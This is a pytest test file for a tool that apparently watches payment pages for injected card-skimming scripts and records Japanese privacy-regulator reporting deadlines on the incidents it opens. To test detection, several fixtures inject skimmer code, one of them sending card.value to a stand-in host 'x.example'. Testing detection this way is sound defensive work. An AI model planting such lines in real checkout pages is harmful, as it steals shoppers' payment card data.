"""Payment-page tamper check against a live local web server whose page the test alters,
and the Personal Information Protection Commission duties shown on the resulting incident."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from sqlalchemy import select
from sqlalchemy.engine import Engine

from mimamori.db.models import Incident
from mimamori.db.models_internet import CheckoutPage, DataScope
from mimamori.db.repo import add_tenant, incident_detail
from mimamori.db.session import session_scope
from mimamori.webcheck import check_pages, page_scripts, register_page

T0 = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)

PAGE = """<!doctype html><html><head><meta charset="utf-8">
<script src="/js/jquery.min.js"></script>
<script src="js/checkout.js" defer></script>
<script>window.shopConfig = {currency: "JPY"};</script>
</head><body><form action="/pay" method="post"><input name="card"></form></body></html>
"""


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def site(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    root = tmp_path / "www"
    (root / "js").mkdir(parents=True)
    (root / "checkout.html").write_text(PAGE, encoding="utf-8")
    (root / "js" / "jquery.min.js").write_text("/*! jQuery */ function $(){}", encoding="utf-8")
    (root / "js" / "checkout.js").write_text("function pay(){ submit(); }", encoding="utf-8")
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(root)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield root, f"http://127.0.0.1:{server.server_address[1]}/checkout.html"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def client() -> Iterator[httpx.Client]:
    with httpx.Client(timeout=5.0, trust_env=False) as c:
        yield c


@pytest.fixture
def shop(db_engine: Engine) -> Engine:
    with session_scope(db_engine) as s:
        add_tenant(s, "shop", "Web shop")
        add_tenant(s, "other", "Other")
    return db_engine


def test_page_scripts_resolves_and_keeps_inline() -> None:
    found = page_scripts(PAGE, "https://shop.example.jp/pay/checkout.html")
    assert found == [
        ("https://shop.example.jp/js/jquery.min.js", ""),
        ("https://shop.example.jp/pay/js/checkout.js", ""),
        (None, 'window.shopConfig = {currency: "JPY"};'),
    ]


def test_unchanged_page_is_ok_and_tampering_opens_one_high_incident(
    shop: Engine, site: tuple[Path, str], client: httpx.Client
) -> None:
    root, url = site
    with session_scope(shop) as s:
        page = register_page(s, "shop", url, client=client, now=T0)
        assert len(page.baseline) == 3
    with session_scope(shop) as s:
        assert [r.status for r in check_pages(s, client=client, now=T0)] == ["ok"]
        assert s.scalars(select(Incident)).all() == []

    # the attacker adds a skimmer script to the payment page
    (root / "checkout.html").write_text(
        PAGE.replace("</head>", '<script src="http://127.0.0.1:9/s.js"></script></head>'), encoding="utf-8"
    )
    with session_scope(shop) as s:
        (result,) = check_pages(s, "shop", client=client, now=T0 + timedelta(minutes=15))
        assert result.status == "changed"
        assert [a["src"] for a in result.added] == ["http://127.0.0.1:9/s.js"]
        assert result.unverifiable and result.unverifiable[0]["src"] == "http://127.0.0.1:9/s.js"
    # checked again: the same change is not a second incident
    with session_scope(shop) as s:
        check_pages(s, client=client, now=T0 + timedelta(minutes=30))
        incidents = s.scalars(select(Incident)).all()
        assert [(i.tenant_id, i.kind, i.severity) for i in incidents] == [("shop", "card_skimming", "high")]


def test_changed_external_script_and_inline_script(
    shop: Engine, site: tuple[Path, str], client: httpx.Client
) -> None:
    root, url = site
    with session_scope(shop) as s:
        register_page(s, "shop", url, client=client, now=T0)
    (root / "js" / "checkout.js").write_text(
        "function pay(){ fetch('https://x.example/c?d='+card.value); submit(); }", encoding="utf-8"
    )
    with session_scope(shop) as s:
        (r,) = check_pages(s, client=client, now=T0)
        assert r.status == "changed"
        assert [c["src"] for c in r.changed] == [url.replace("checkout.html", "js/checkout.js")]
        assert r.added == []
    # approve the new version; then an inline skimmer appears
    with session_scope(shop) as s:
        register_page(s, "shop", url, client=client, now=T0)
    (root / "checkout.html").write_text(
        PAGE.replace(
            "</body>", "<script>document.forms[0].onsubmit=function(){new Image().src='//x/'}</script></body>"
        ),
        encoding="utf-8",
    )
    with session_scope(shop) as s:
        (r,) = check_pages(s, client=client, now=T0)
        assert r.status == "changed"
        assert [a["kind"] for a in r.added] == ["inline"]
        assert s.scalars(select(CheckoutPage)).one().last_status == "changed"


def test_removed_script_and_unreachable_page(
    shop: Engine, site: tuple[Path, str], client: httpx.Client
) -> None:
    root, url = site
    with session_scope(shop) as s:
        register_page(s, "shop", url, client=client, now=T0)
    (root / "checkout.html").write_text(
        PAGE.replace('<script src="/js/jquery.min.js"></script>', ""), "utf-8"
    )
    with session_scope(shop) as s:
        (r,) = check_pages(s, client=client, now=T0)
        assert r.status == "ok" and len(r.removed) == 1
    (root / "checkout.html").unlink()
    with session_scope(shop) as s:
        (r,) = check_pages(s, client=client, now=T0)
        assert r.status == "error" and "404" in (r.error or "")
        assert s.scalars(select(Incident)).all() == []


def test_register_refuses_unknown_tenant_and_bad_url(shop: Engine, client: httpx.Client) -> None:
    with session_scope(shop) as s:
        with pytest.raises(ValueError, match="unknown tenant"):
            register_page(s, "nobody", "http://127.0.0.1:1/", client=client)
        with pytest.raises(ValueError, match="not an http"):
            register_page(s, "shop", "file:///etc/passwd", client=client)


def test_incident_on_card_data_system_shows_ppc_deadlines(
    shop: Engine, site: tuple[Path, str], client: httpx.Client
) -> None:
    root, url = site
    with session_scope(shop) as s:
        s.add(DataScope(tenant_id="shop", system="127.0.0.1", name="EC site", card_data=True, persons=15_000))
        s.add(DataScope(tenant_id="other", system="127.0.0.1", name="not this tenant", sensitive_data=True))
        register_page(s, "shop", url, client=client, now=T0)
    (root / "checkout.html").write_text(
        PAGE.replace("</head>", '<script src="/js/x.js"></script></head>'), "utf-8"
    )
    (root / "js" / "x.js").write_text("steal()", "utf-8")
    with session_scope(shop) as s:
        check_pages(s, client=client, now=T0)
        inc = s.scalars(select(Incident)).one()
        d = incident_detail(s, "shop", inc.id)
    pd = d["personal_data"]
    assert [x["name"] for x in pd["systems"]] == ["EC site"]  # the other tenant's tag is not used
    assert pd["report_mandatory"] is True
    assert [t["key"] for t in pd["triggers"]] == ["financial", "wrongful", "over_1000"]
    assert pd["suspected_at"] == T0.isoformat()
    assert pd["deadlines"]["preliminary"]["due_by"] == (T0 + timedelta(days=5)).isoformat()
    assert pd["deadlines"]["final"]["due_by"] == (T0 + timedelta(days=60)).isoformat()


def test_untagged_or_encrypted_systems(shop: Engine, site: tuple[Path, str], client: httpx.Client) -> None:
    root, url = site
    with session_scope(shop) as s:
        register_page(s, "shop", url, client=client, now=T0)
    (root / "checkout.html").write_text(PAGE.replace("</head>", "<script>x()</script></head>"), "utf-8")
    with session_scope(shop) as s:
        check_pages(s, client=client, now=T0)
        inc = s.scalars(select(Incident)).one()
        assert incident_detail(s, "shop", inc.id)["personal_data"] is None  # nothing tagged
        s.add(DataScope(tenant_id="shop", system=url.rsplit("/", 1)[0], card_data=True, encrypted=True))
        s.flush()
        pd = incident_detail(s, "shop", inc.id)["personal_data"]
        assert pd["report_mandatory"] is False and pd["exempt_reason"] is not None


def test_cli_register_check_list(tmp_path: Path, site: tuple[Path, str]) -> None:
    from typer.testing import CliRunner

    from mimamori.cli import app

    root, url = site
    home = ["--data-dir", str(tmp_path / "home")]
    runner = CliRunner()
    assert runner.invoke(app, ["tenants", "add", "shop", "--name", "ショップ", *home]).exit_code == 0
    r = runner.invoke(app, ["webcheck", "register", "shop", url, *home])
    assert r.exit_code == 0 and "3 scripts" in r.stdout
    r = runner.invoke(app, ["webcheck", "check", *home])
    assert r.exit_code == 0 and r.stdout.startswith("ok\tshop\t")
    (root / "checkout.html").write_text(PAGE.replace("</head>", "<script>skim()</script></head>"), "utf-8")
    r = runner.invoke(app, ["webcheck", "check", "--json", *home])
    assert r.exit_code == 1
    assert json.loads(r.stdout)[0]["status"] == "changed"
    r = runner.invoke(app, ["incidents", "list", "--json", *home])
    assert [i["kind"] for i in json.loads(r.stdout)] == ["card_skimming"]
    assert "changed" in runner.invoke(app, ["webcheck", "list", *home]).stdout
    r = runner.invoke(app, ["webcheck", "register", "nobody", url, *home])
    assert r.exit_code == 2
    r = runner.invoke(app, ["datascope", "add", "shop", "127.0.0.1", "--card", "--persons", "15000", *home])
    assert r.exit_code == 0, r.output
    assert runner.invoke(app, ["datascope", "list", *home]).stdout == "shop\t127.0.0.1\t-\t15000\tcard\n"
    inc = json.loads(runner.invoke(app, ["incidents", "list", "--json", *home]).stdout)[0]
    shown = json.loads(runner.invoke(app, ["incidents", "show", str(inc["id"]), "--json", *home]).stdout)
    assert [t["key"] for t in shown["personal_data"]["triggers"]] == ["financial", "wrongful", "over_1000"]
    assert "個人情報" in runner.invoke(app, ["incidents", "show", str(inc["id"]), *home]).stdout
    assert runner.invoke(app, ["datascope", "add", "nobody", "x", *home]).exit_code == 2
